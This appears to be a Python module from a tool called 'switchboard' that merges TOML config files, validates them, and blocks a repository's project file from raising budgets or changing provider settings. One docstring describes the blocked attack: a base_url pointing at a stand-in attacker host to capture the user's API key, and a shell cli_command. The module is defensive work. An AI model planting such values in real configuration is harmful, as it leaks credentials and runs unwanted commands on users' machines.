"""Merge the configuration files' TOML and validate it against ``config.schema``.

Tables merge key by key; arrays (and arrays of tables, such as a provider's models) replace.
The result is plain data with every default filled in (what the settings cache stores). A wrong
file raises ConfigError naming the file, the key and what is allowed.
"""

from __future__ import annotations

import copy
import logging
import re
import tomllib
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any, get_args, get_origin

from pydantic import BaseModel, ValidationError

from config.loader import DEFAULT_SOURCE, DEFAULT_STATE_DIR, PROJECT_FILE, ConfigError, expand_home
from config.schema import ConfigSchema

logger = logging.getLogger(__name__)


def validated_config(texts: Sequence[tuple[str, str]], *, home_from_env: bool = False) -> dict[str, Any]:
    """The merged, validated configuration of ``texts`` ((source, TOML text), lowest precedence first);
    ``home_from_env``: SWITCHBOARD_HOME is set, so the state dir is that, whatever ``state_dir`` says."""
    merged: dict[str, Any] = {}
    provenance: dict[tuple[str, ...], str] = {}
    before_project: dict[str, Any] = {}  # the configuration before the project file's
    shared_state_dir: tuple[Any, str] = (None, DEFAULT_SOURCE)  # the state dir before the project file's
    for source, text in texts:
        if Path(source).name == PROJECT_FILE:
            before_project = copy.deepcopy(merged)
            shared_state_dir = (merged.get("state_dir"), provenance.get(("state_dir",), DEFAULT_SOURCE))
        _merge(merged, _without_retired(_parse(text, source), source), source, provenance, ())
    try:
        schema = ConfigSchema.model_validate(merged)
    except ValidationError as exc:
        raise _explain(exc, provenance) from None
    for key, paths in (("state_dir", [schema.state_dir] if schema.state_dir else []), ("agents_dirs", schema.agents_dirs)):
        source = provenance.get((key,), DEFAULT_SOURCE)
        for path in paths:
            expand_home(path, f"{source}: '{key}'", file=source, key=key)
    own = _own_state_dir(schema.state_dir, shared_state_dir, provenance)
    _check_shared_day(provenance, own, home_from_env)
    data = schema.model_dump()
    _check_project_budget(data["budget"], before_project.get("budget") or {}, provenance, own, home_from_env)
    _check_project_runs(data["providers"], before_project.get("providers") or {}, provenance)
    # Relative paths are read from the file that set them (as _own_state_dir compares the state dir): from the
    # working directory, a project's sessions started in different subdirectories each had a state dir (and a
    # whole budget) of their own, and looked for its agents_dirs where there were none.
    if data["state_dir"]:
        data["state_dir"] = _from_file(data["state_dir"], provenance[("state_dir",)])
    data["agents_dirs"] = [_from_file(d, provenance.get(("agents_dirs",), DEFAULT_SOURCE)) for d in data["agents_dirs"]]
    return data


def _from_file(path: str, source: str) -> str:
    """``path`` as written when absolute or starting with ``~``; else read from the directory of ``source``."""
    if path.startswith("~") or Path(path).is_absolute() or source == DEFAULT_SOURCE:
        return path
    return str(Path(source).parent / path)


def _own_state_dir(state_dir: str | None, shared: tuple[Any, str],
                   provenance: Mapping[tuple[str, ...], str]) -> str | None:
    """The project file whose ``state_dir`` gives it a state dir of its own, if one does. A ``state_dir`` naming
    the state dir it would share anyway (``"~/.switchboard"``, the user file's, or a path to the same
    directory) is none of its own: it let a repository's file raise the budget every project on that dir
    spends. A relative path is compared as read from the file's directory."""
    source = provenance.get(("state_dir",))
    if source is None or Path(source).name != PROJECT_FILE:
        return None
    shared_dir = _where(shared[0] or DEFAULT_STATE_DIR, shared[1])
    return source if _where(state_dir or DEFAULT_STATE_DIR, source) != shared_dir else None


def _where(state_dir: str, source: str) -> Path:
    path = expand_home(state_dir, "the state dir")
    if not path.is_absolute() and source != DEFAULT_SOURCE:
        path = Path(source).parent / path
    return path.resolve()


def _check_project_budget(budget: Mapping[str, Any], before: Mapping[str, Any],
                          provenance: Mapping[tuple[str, ...], str], own_state_dir: str | None,
                          home_from_env: bool) -> None:
    """A project file may lower the budget of the state dir it shares, not raise it: a repository's
    ``.switchboard.toml`` (written by whoever wrote the repository) setting ``daily_total = 10000`` let every
    session in it spend that much of the user's keys a day, past the limit the user set for the machine."""
    for path in [("budget", "daily_total"), *(("budget", "allocation", p) for p in budget["allocation"])]:
        source = provenance.get(path, DEFAULT_SOURCE)
        if Path(source).name != PROJECT_FILE:
            continue
        if own_state_dir == source and not home_from_env:
            continue  # a budget of its own
        value = budget[path[1]] if len(path) == 2 else budget["allocation"][path[2]]
        earlier = before.get(path[1]) if len(path) == 2 else (before.get("allocation") or {}).get(path[2], 0.0)
        if not isinstance(earlier, int | float) or isinstance(earlier, bool) or value <= earlier:
            continue
        key = ".".join(path)
        raise ConfigError(
            f"{source}: '{key}' = {value:g} raises the budget this project shares with every other one on this "
            f"state dir (your configuration says {earlier:g}); a project file may only lower it. Raise it in your "
            "user config (~/.config/switchboard/config.toml), or give this project its own state_dir in this file",
            file=source, key=key,
        )


# Provider keys that say what runs on the user's machine and where the user's API key is sent.
USER_ONLY_PROVIDER_KEYS = {
    "base_url": "where your API key is sent",
    "cli_command": "what runs on your machine",
}


def _check_project_runs(providers: Mapping[str, Any], before: Mapping[str, Any],
                        provenance: Mapping[tuple[str, ...], str]) -> None:
    """A project file may not change USER_ONLY_PROVIDER_KEYS: a repository's ``.switchboard.toml`` (written by
    whoever wrote the repository) with ``base_url = "https://attacker.example/v1"`` sent the user's OPENAI_API_KEY
    there with the first task, and ``cli_command = ["sh", "-c", ...]`` ran its command. Setting the value already
    in force is no change."""
    for name, table in providers.items():
        for key, what in USER_ONLY_PROVIDER_KEYS.items():
            source = provenance.get(("providers", name, key), DEFAULT_SOURCE)
            earlier = before[name].get(key) if isinstance(before.get(name), dict) else None
            if Path(source).name != PROJECT_FILE or table[key] == earlier:
                continue
            raise ConfigError(
                f"{source}: 'providers.{name}.{key}' is set for this project, but it says {what}, and a project "
                "file comes with the repository, written by whoever wrote it: set it in your user config "
                "(~/.config/switchboard/config.toml) or in a file named by SWITCHBOARD_CONFIG",
                file=source, key=f"providers.{name}.{key}",
            )


# Budget keys every process on one state dir must apply alike, and why: a project file may set them only for a
# state dir of its own (which SWITCHBOARD_HOME, when set, replaces).
SHARED_BUDGET_KEYS = {
    # Days are the ledger's keys: a process on Asia/Kolkata spending under tomorrow's date beside one on UTC
    # would let both spend the whole budget.
    "timezone": "whose day must be the same for all",
    # A shorter TTL in one process expired the others' live reservations (they heartbeat at their own TTL / 3),
    # so the money they held could be reserved again and the shared daily total overspent.
    "reservation_ttl_seconds": "whose reservations every process must expire alike",
}


def _check_shared_day(provenance: Mapping[tuple[str, ...], str], own_state_dir: str | None,
                      home_from_env: bool) -> None:
    """A project file may set SHARED_BUDGET_KEYS only for a state dir of its own."""
    for name, why in SHARED_BUDGET_KEYS.items():
        key = f"budget.{name}"
        source = provenance.get(("budget", name), DEFAULT_SOURCE)
        if Path(source).name != PROJECT_FILE:
            continue
        if own_state_dir != source:
            raise ConfigError(
                f"{source}: '{key}' is set for this project, but every project using the same state dir "
                f"shares one budget, {why}: set {key} in your user config "
                "(~/.config/switchboard/config.toml), or give this project its own state_dir in this file",
                file=source, key=key,
            )
        if home_from_env:
            raise ConfigError(
                f"{source}: '{key}' is set for this project with a state_dir of its own, but "
                f"SWITCHBOARD_HOME is set and replaces that state_dir, so this project shares that state dir's budget, "
                f"{why}: unset SWITCHBOARD_HOME, or set {key} in your user "
                "config (~/.config/switchboard/config.toml)",
                file=source, key=key,
            )


# Keys earlier versions accepted and never used: read past with a warning, so such a file still loads.
RETIRED_PROVIDER_KEYS = {
    "subscription_window_hours": "a subscription window is learned from the CLI's usage-limit message (held until "
                                 "the reset it names)",
    "subscription_requests": "a subscription window is learned from the CLI's usage-limit message (held until the "
                             "reset it names)",
}


def _without_retired(data: dict[str, Any], source: str) -> dict[str, Any]:
    providers = data.get("providers")
    if isinstance(providers, dict):
        for name, table in providers.items():
            if isinstance(table, dict):
                for key in [k for k in table if k in RETIRED_PROVIDER_KEYS]:
                    del table[key]
                    logger.warning("%s: 'providers.%s.%s' is ignored: %s; remove it", source, name, key,
                                   RETIRED_PROVIDER_KEYS[key])
    return data


# Where the shipped defaults are on this machine (a package's site-packages/config/, or a checkout's config/): "config/
# default.toml" named no file a user of an installed package has.
SHIPPED_DEFAULTS = str(Path(__file__).with_name("default.toml"))


def _parse(text: str, source: str) -> dict[str, Any]:
    try:
        return tomllib.loads(text)
    except tomllib.TOMLDecodeError as exc:
        raise ConfigError(f"{source} is not valid TOML: {exc}; fix it ({SHIPPED_DEFAULTS} shows every key)",
                          file=source) from exc
    except (RecursionError, ValueError) as exc:  # not its decode error: nesting past the stack, or a huge integer
        raise ConfigError(f"{source} cannot be read as TOML ({unreadable_toml(exc)}); fix it ({SHIPPED_DEFAULTS} "
                          "shows every key)", file=source) from None


def unreadable_toml(exc: RecursionError | ValueError) -> str:
    """Why tomllib could not read a file, beyond its own decode error: an array or table nested deeper than
    Python's stack, or an integer too long to convert (both were tracebacks)."""
    return "it is nested too deeply" if isinstance(exc, RecursionError) else str(exc).split(";")[0]


def _merge(
    into: dict[str, Any],
    new: Mapping[str, Any],
    source: str,
    provenance: dict[tuple[str, ...], str],
    prefix: tuple[str, ...],
) -> None:
    for key, value in new.items():
        path = (*prefix, key)
        if isinstance(value, dict) and isinstance(into.get(key), dict):
            provenance[path] = source
            _merge(into[key], value, source, provenance, path)
        else:
            into[key] = value
            provenance[path] = source
            if isinstance(value, dict):
                _mark(value, source, provenance, path)


def _mark(table: Mapping[str, Any], source: str, provenance: dict[tuple[str, ...], str], prefix: tuple[str, ...]) -> None:
    for key, value in table.items():
        provenance[(*prefix, key)] = source
        if isinstance(value, dict):
            _mark(value, source, provenance, (*prefix, key))


def _source_for(loc: tuple[str, ...], provenance: Mapping[tuple[str, ...], str]) -> str:
    for end in range(len(loc), 0, -1):
        if loc[:end] in provenance:
            return provenance[loc[:end]]
    return DEFAULT_SOURCE


def _allowed_keys(loc: tuple[str, ...]) -> list[str]:
    """The keys the schema allows in the table that holds ``loc``'s last key."""
    model = _table_model(loc)
    return sorted(model.model_fields) if model is not None else []


def _table_model(loc: tuple[str, ...]) -> Any:
    """The schema model of the table that holds ``loc``'s last key, or None."""
    model: Any = ConfigSchema
    skip_next = False
    for part in loc[:-1]:
        if skip_next:  # a dict key (providers.<name>) or a list index
            skip_next = False
            continue
        field = model.model_fields.get(part) if _is_model(model) else None
        if field is None:
            return None
        skip_next = get_origin(field.annotation) in (dict, list)
        model = _inner_model(field.annotation)
    return model if _is_model(model) else None


def _is_model(obj: Any) -> bool:
    return isinstance(obj, type) and issubclass(obj, BaseModel)


def _inner_model(annotation: Any) -> Any:
    if _is_model(annotation):
        return annotation
    for arg in get_args(annotation):
        found = _inner_model(arg)
        if found is not None:
            return found
    return None


def _type_hint(err: Mapping[str, Any]) -> str:
    """What to write instead, when a TOML value has the wrong type (a table, or for a number or a boolean) or is out
    of the range the schema allows."""
    value, kind, loc = err.get("input"), err["type"], err["loc"]
    if isinstance(value, Mapping):  # [budget.timezone], or [providers.codex.models] for [[providers.codex.models]]
        if kind == "list_type" and loc[-1] == "models":
            return f"; each model is a table of its own: write [[{'.'.join(map(str, loc))}]] (two brackets) above each"
        if isinstance(loc[-1], int):
            return "; write a plain value, not a table"
        *table, name = map(str, loc)
        return f"; it is written as a table: write {name} = ... " + (
            f"under [{'.'.join(table)}] instead" if table else "before the file's first [table] instead")
    if kind in ("int_type", "float_type") and isinstance(value, str):
        return "; write the number without quotes"
    if kind in ("int_type", "float_type") and isinstance(value, bool):
        return "; true and false are not numbers, write one such as 3"
    if kind == "int_type" and isinstance(value, float):
        return "; write a whole number such as 3"
    if kind == "bool_type":
        return "; write true or false (no quotes)"
    if kind in _OUT_OF_RANGE and (allowed := _allowed_range(tuple(map(str, loc)))):
        return f"; allowed: {allowed}"
    return ""


_OUT_OF_RANGE = ("greater_than", "greater_than_equal", "less_than", "less_than_equal")


def _allowed_range(loc: tuple[str, ...]) -> str:
    """The range the schema allows for ``loc``'s key, e.g. "from 0 to 3600 seconds (an hour)"; "" unless it has
    both ends."""
    model = _table_model(loc)
    field = model.model_fields.get(loc[-1]) if model is not None else None
    if field is None:
        return ""
    low = high = None
    for bound in field.metadata:
        if getattr(bound, "ge", None) is not None:
            low = f"from {_number(bound.ge)}"
        if getattr(bound, "gt", None) is not None:
            low = f"above {_number(bound.gt)},"
        if getattr(bound, "le", None) is not None:
            high = bound.le
    if low is None or high is None:
        return ""
    unit = " seconds" + {3600: " (an hour)", 86400: " (a day)", 172800: " (two days)", 604800: " (a week)"}.get(high, "") \
        if loc[-1].endswith("_seconds") else ""
    return f"{low} {'to' if low.startswith('from') else 'at most'} {_number(high)}{unit}"


def _number(value: float) -> str:
    return str(int(value)) if float(value).is_integer() else f"{value:g}"


def _explain(exc: ValidationError, provenance: Mapping[tuple[str, ...], str]) -> ConfigError:
    lines = []
    first_file = first_key = None
    for err in exc.errors():
        loc = tuple(str(p) for p in err["loc"])
        key = ".".join(loc) or "<top level>"
        source = _source_for(loc, provenance)
        if err["type"] == "extra_forbidden":
            allowed = _allowed_keys(loc)
            msg = f"unknown key '{key}'" + (f"; allowed here: {', '.join(allowed)}" if allowed else "")
        elif err["type"] == "missing":
            msg = f"missing required key '{key}'"
        elif err["type"] == "finite_number":
            msg = f"'{key}' = {err.get('input')!r}: must be a finite number; write a plain one such as 25.0"
        elif isinstance(err.get("input"), Mapping) and err["type"] == "value_error":  # a check across keys: the
            # keys it names, not the table (a table where a value belongs is a type error, said of its key below)
            msg = err["msg"].removeprefix("Value error, ")
            dotted = [tuple(k.split(".")) for k in re.findall(r"[\w-]+(?:\.[\w-]+)+", msg)]
            named = [k for d in dotted for k in (d, loc + d) if k in provenance]  # keys, not numbers (2.00)
            source = ", ".join(dict.fromkeys(provenance[k] for k in named)) or source
        else:
            text = err["msg"].removeprefix("Value error, ") + _type_hint(err)
            msg = f"'{key}' = {err.get('input')!r}: {text}"
        lines.append(f"{source}: {msg}")
        first_file = first_file or source
        first_key = first_key or key
    return ConfigError("invalid configuration:\n  " + "\n  ".join(lines), file=first_file, key=first_key)
